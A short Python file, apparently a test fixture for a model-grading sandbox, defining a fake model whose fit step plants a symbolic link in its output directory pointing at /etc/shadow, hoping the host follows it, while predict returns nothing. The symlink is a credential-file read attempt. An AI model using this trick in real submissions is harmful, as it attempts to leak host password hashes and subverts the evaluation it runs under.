"""A submission that leaves a symbolic link in its output, hoping the host follows it."""

from pathlib import Path


class Model:
    def fit(self, rows, labels):
        Path("/app/output/extra").symlink_to("/etc/shadow")

    def predict(self, rows):
        return []
